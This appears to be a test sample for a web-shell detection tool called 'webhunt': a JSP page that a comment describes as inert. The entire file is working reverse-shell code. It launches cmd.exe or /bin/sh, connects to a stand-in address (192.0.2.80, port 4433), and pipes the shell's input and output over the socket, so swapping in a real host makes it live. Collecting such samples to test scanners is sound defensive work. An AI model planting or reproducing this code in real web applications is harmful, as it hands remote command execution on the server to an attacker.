<%@ page import="java.io.*,java.net.*" %>
<%-- Inert test sample (webhunt): a reverse shell that pumps an interactive shell's streams to a socket. --%>
<%!
  static void pump(final InputStream in, final OutputStream out) {
    new Thread() {
      public void run() {
        try {
          byte[] buf = new byte[2048];
          int n;
          while ((n = in.read(buf)) > 0) { out.write(buf, 0, n); out.flush(); }
        } catch (Exception e) { }
      }
    }.start();
  }
%>
<%
  String os = System.getProperty("os.name").toLowerCase();
  String shell = os.contains("win") ? "cmd.exe" : "/bin/sh";
  Socket s = new Socket("192.0.2.80", 4433);
  Process p = new ProcessBuilder(shell).redirectErrorStream(true).start();
  pump(p.getInputStream(), s.getOutputStream());
  pump(s.getInputStream(), p.getOutputStream());
%>
